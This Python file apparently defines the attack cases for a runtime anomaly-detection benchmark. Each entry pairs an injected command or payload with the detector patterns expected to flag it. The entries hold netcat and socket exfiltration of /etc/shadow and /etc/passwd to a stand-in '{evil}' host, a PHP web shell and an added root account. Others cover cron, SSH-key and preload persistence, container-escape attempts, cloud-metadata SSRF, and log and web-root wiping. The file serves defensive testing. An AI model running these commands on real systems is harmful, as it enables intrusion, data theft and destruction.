# SPDX-License-Identifier: Apache-2.0
"""The attacks of bench/services, after the list of tests' ATTACKS A1 to A14: harmless, but the acts are real ones.

Each: id, class, service, how it comes in ("hole": through the service's own hole, by a request; "inside": as somebody who is inside already, given by the runtime's exec), what is sent,
and the truth: acts of which at least one must be named by an anomaly. An act is a pattern over "family|actor|object|detail", written down before anything was judged.

{me}: the attacked container's address; {evil}: an address outside of all that is known, where somebody listens; {redis}, {postgres}, …: an address of that service.
"""


def python(code):
    return ("python", 8000, "/calc?e=", code)


def node(code):
    return ("node", 3000, "/calc?e=", code)


def php(code):
    return ("apache", 80, "/index.php?e=", code)


def osx(command):
    return python(f"__import__('os').system({command!r})")


def sh(service, command):
    return (service, None, None, command)


ATTACKS = [
    # A1: command injection, then a reverse shell
    ("A1-python-shell", "A1", osx("id; (sleep 2 | nc -w 3 {evil} 4444) &"), [r"exec\|.*python3[^|]*\|/usr/bin/dash", r"exec\|[^|]*\|/usr/bin/id\|", r"peer\|[^|]*\|network {evil}\|out tcp/4444"]),
    ("A1-node-shell", "A1", node("require('child_process').execSync('id; uname -a').toString()"), [r"exec\|.*node\|/usr/bin/dash", r"exec\|[^|]*\|/usr/bin/(id|uname)\|"]),
    ("A1-php-shell", "A1", php("shell_exec('id; cat /etc/passwd')"), [r"exec\|.*apache2\|/usr/bin/dash", r"exec\|[^|]*\|/usr/bin/(id|cat)\|"]),
    ("A1-python-no-shell", "A1", python("(lambda s: (s.connect(('{evil}', 4445)), s.send(b'ready')))(__import__('socket').socket())"), [r"peer\|[^|]*python3[^|]*\|network {evil}\|out tcp/4445"]),
    # A2: web attacks
    ("A2-traversal", "A2", ("apache", 80, "/index.php?f=", "../../../../etc/shadow"), [r"file\|.*apache2\|/etc/shadow\|read"]),
    ("A2-traversal-python", "A2", ("python", 8000, "/doc?name=", "../../../../etc/ssl/openssl.cnf"), [r"file\|.*python3[^|]*\|/etc/ssl/openssl\.cnf\|read"]),
    ("A2-ssrf", "A2", node("(require('http').get('http://169.254.169.254/latest/meta-data/').on('error', () => 0), 1)"), [r"peer\|.*node\|network 169\.254\.169\.254\|out tcp/80"]),
    ("A2-web-shell", "A2", php("file_put_contents('/var/www/html/up/x.php', '<?php system($_GET[0]);') . file_get_contents('http://127.0.0.1/up/x.php?0=id')"),
     [r"file\|.*apache2\|/var/www/html/up/x\.php\|(create|write|read)", r"exec\|.*apache2\|/usr/bin/dash", r"exec\|[^|]*\|/usr/bin/id\|"]),
    ("A2-sql-program", "A2", sh("postgres", "psql -h 127.0.0.1 -c \"COPY orders (n) FROM PROGRAM 'id -u'\""), [r"exec\|.*postgres\|/usr/bin/dash", r"exec\|[^|]*\|/usr/bin/id\|"]),
    ("A2-redis-config", "A2", ("redis", 6379, None, "CONFIG SET dir /var/spool/cron\r\nCONFIG SET dbfilename root\r\nSAVE\r\n"), [r"file\|.*redis[^|]*\|/var/spool/cron/[^|]*\|(create|write|rename)"]),
    # A3: code injection
    ("A3-ptrace", "A3", osx("sleep 5 & python3 -c \"import ctypes; ctypes.CDLL(None).ptrace(16, $!, 0, 0)\""), [r"kernel\|[^|]*\|ptrace\|", r"exec\|.*python3[^|]*\|/usr/bin/dash"]),
    ("A3-memory-file", "A3", python("(lambda o: (lambda f: (o.write(f, open('/usr/bin/id','rb').read()), o.fork() or o.execv('/proc/self/fd/%d' % f, ['id'])))(o.memfd_create('x')))(__import__('os'))"),
     [r"kernel\|.*python3[^|]*\|memfd_create\|", r"exec\|.*python3[^|]*\|/memfd:x"]),
    ("A3-preload", "A3", sh("haproxy", "cp /lib/x86_64-linux-gnu/libz.so.1 /tmp/hook.so; LD_PRELOAD=/tmp/hook.so /usr/bin/openssl version"), [r"file\|[^|]*\|/tmp/hook\.so\|", r"exec\|[^|]*\|/usr/bin/openssl\|"]),
    ("A3-proc-mem", "A3", sh("memcached", "echo x | dd of=/proc/self/mem bs=1 seek=4096 conv=notrunc"), [r"kernel\|[^|]*\|mem_write\|", r"file\|[^|]*\|/proc/[^|]*mem\|write", r"exec\|[^|]*\|/usr/bin/dd\|"]),
    # A4: privileges
    ("A4-setuid", "A4", sh("nats", "cp /usr/bin/id /var/tmp/su; chmod 4755 /var/tmp/su; setpriv --reuid 65534 --clear-groups /var/tmp/su"),
     [r"file\|[^|]*\|/var/tmp/su\|(create|write|attributes)", r"exec\|[^|]*\|/var/tmp/su\|"]),
    ("A4-passwd", "A4", sh("mosquitto", "echo 'toor::0:0::/:/bin/sh' >> /etc/passwd"), [r"file\|[^|]*\|/etc/passwd\|write"]),
    ("A4-user-namespace", "A4", sh("nginx", "unshare -U id; unshare -m id"), [r"namespace\|[^|]*\|unshare\|", r"exec\|[^|]*\|/usr/bin/unshare\|"]),
    # A5: escape
    ("A5-cgroup-mount", "A5", sh("redis", "mkdir /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg"), [r"namespace\|[^|]*\|mount\|", r"exec\|[^|]*\|/usr/bin/mount\|", r"file\|[^|]*\|/tmp/cg\|create"]),
    ("A5-core-pattern", "A5", sh("dnsmasq", "echo '|/x' > /proc/sys/kernel/core_pattern"), [r"file\|[^|]*\|/proc/sys/kernel/core_pattern\|"]),
    ("A5-nsenter", "A5", sh("worker", "nsenter -t 1 -m -p id"), [r"namespace\|[^|]*\|setns\|", r"exec\|[^|]*\|/usr/bin/nsenter\|"]),
    ("A5-raw-device", "A5", sh("node", "mknod /tmp/disk b 254 0; dd if=/tmp/disk of=/dev/null count=1"), [r"file\|[^|]*\|/tmp/disk\|", r"exec\|[^|]*\|/usr/bin/mknod\|"]),
    ("A5-module", "A5", sh("haproxy", "echo x > /tmp/r.ko; busybox insmod /tmp/r.ko"), [r"kernel\|[^|]*\|module_load\|", r"file\|[^|]*\|/tmp/r\.ko\|", r"exec\|[^|]*\|/(usr/)?bin/busybox"]),
    # A6: to stay
    ("A6-preload-file", "A6", sh("nginx", "echo /tmp/x.so > /etc/ld.so.preload; rm /etc/ld.so.preload"), [r"file\|[^|]*\|/etc/ld\.so\.preload\|(create|write|delete)"]),
    ("A6-cron", "A6", sh("worker", "echo '* * * * * root /bin/true' > /etc/cron.d/zz"), [r"file\|[^|]*\|/etc/cron\.d/zz\|(create|write)"]),
    ("A6-key", "A6", sh("memcached", "mkdir -p /root/.ssh; echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"), [r"file\|[^|]*\|/root/\.ssh/authorized_keys\|"]),
    ("A6-binary", "A6", sh("mosquitto", "cp /usr/bin/id /usr/bin/ps.new; mv /usr/bin/ps.new /usr/bin/ps; ps"), [r"file\|[^|]*\|/usr/bin/ps(\.new)?\|", r"exec\|[^|]*\|/usr/bin/ps\|"]),
    # A7: sideways
    ("A7-scan", "A7", python("[__import__('socket').socket().connect_ex(('{nginx}', p)) for p in range(20, 60)]"), [r"peer\|.*python3[^|]*\|workload shop/nginx\|out tcp/"]),
    ("A7-redis-from-web", "A7", php("fwrite(fsockopen('{redis}', 6379), \"KEYS *\\r\\n\")"), [r"peer\|.*apache2\|workload shop/redis\|out tcp/6379"]),
    ("A7-postgres-from-node", "A7", node("(require('net').connect(5432, '{postgres}').on('error', () => 0), 1)"), [r"peer\|.*node\|workload shop/postgres\|out tcp/5432"]),
    # A8: out
    ("A8-upload", "A8", node("(require('net').connect(443, '{evil}', function () { this.end(require('fs').readFileSync('/etc/passwd')) }).on('error', () => 0), 1)"),
     [r"peer\|.*node\|network {evil}\|out tcp/443"]),
    ("A8-secret-upload", "A8", osx("cat /etc/shadow | nc -w 2 {evil} 4444"), [r"file\|[^|]*\|/etc/shadow\|read", r"peer\|[^|]*\|network {evil}\|out tcp/4444", r"exec\|[^|]*\|/usr/bin/(cat|nc\.openbsd)\|"]),
    ("A8-dns", "A8", python("[(lambda s: s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x0csecretdata%02d\\4evil\\4test\\0\\0\\x10\\0\\1' % i, ('{dnsmasq}', 53)))(__import__('socket').socket(2, 2)) for i in range(10)]"),
     [r"dns\|.*python3[^|]*\|[^|]*evil\.test\|", r"peer\|.*python3[^|]*\|workload shop/dnsmasq\|out udp/53"]),
    # by an allowed peer, in its own words (what it cannot read it ends after a few KiB), at a hundred times its volume: nothing of it is new but the amount
    ("A8-volume", "A8", python("(lambda s: [s.sendall(b'*3\\r\\n$3\\r\\nSET\\r\\n$1\\r\\nk\\r\\n$13107200\\r\\n')] + [s.sendall(b'x' * 65536) for _ in range(200)] + [s.close()])(__import__('socket').create_connection(('{redis}', 6379), 2))"), [r"(rate|volume)\|"]),
    # A9: taken over, and removed at once
    ("A9-hijack-and-kill", "A9", osx("cp /bin/busybox /tmp/dropper; /tmp/dropper id; python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(16, 1, 0, 0)'; echo x > /etc/ld.so.preload"),
     [r"exec\|[^|]*\|/tmp/dropper", r"kernel\|[^|]*\|ptrace\|", r"file\|[^|]*\|/etc/ld\.so\.preload\|"]),
    # A11: harm
    ("A11-miner", "A11", sh("nats", "cp /bin/busybox /tmp/xmrig; timeout 2 /tmp/xmrig yes > /dev/null"), [r"exec\|[^|]*\|/tmp/xmrig"]),
    ("A11-wipe", "A11", sh("apache", "rm -rf /var/www/html/pages"), [r"file\|[^|]*/rm\|/var/www/html/pages[^|]*\|delete", r"exec\|[^|]*\|/usr/bin/rm\|"]),
    ("A11-logs", "A11", sh("nginx", ": > /var/log/nginx/access.log; rm -f /var/log/nginx/error.log"), [r"file\|[^|]*(dash|rm)\|/var/log/nginx/[^|]*\|(write|delete)", r"exec\|[^|]*\|/usr/bin/(rm|dash)\|"]),
    ("A11-forks", "A11", osx("for i in 1 2 3 4 5 6 7 8 9 10; do (sleep 1 &) ; done"), [r"exec\|.*python3[^|]*\|/usr/bin/dash", r"exec\|[^|]*\|/usr/bin/sleep\|"]),
    # A12: an operator who does what nobody did before
    ("A12-operator", "A12", sh("redis", "cat /etc/issue; ls /root"), [r"exec\|[^|]*\|/usr/bin/(dash|cat|ls)\|"]),
]
SMALL = [
    ("S-dropper", "A1", sh("web", "cp /bin/busybox /tmp/implant; /tmp/implant id"), [r"exec\|[^|]*\|/tmp/implant"]),
    ("S-passwd", "A4", sh("cache", "echo toor::0:0::/:/bin/sh >> /etc/passwd"), [r"file\|[^|]*\|/etc/passwd\|write"]),
    ("S-sideways", "A7", sh("web", "echo x | nc -w 1 {cache} 6379"), [r"peer\|[^|]*\|workload shop/cache\|out tcp/6379", r"exec\|[^|]*\|/bin/busybox nc"]),
    ("S-outside", "A8", sh("cache", "nc -w 1 {evil} 4444 < /etc/passwd"), [r"peer\|[^|]*\|network {evil}\|out tcp/4444", r"exec\|[^|]*\|/bin/busybox nc"]),
]
# while everything is learned yet
LEARNING = ("A14-while-learning", "A14", sh("memcached", "cp /bin/busybox /tmp/implant; /tmp/implant id"), [r"exec\|[^|]*\|/tmp/implant"])
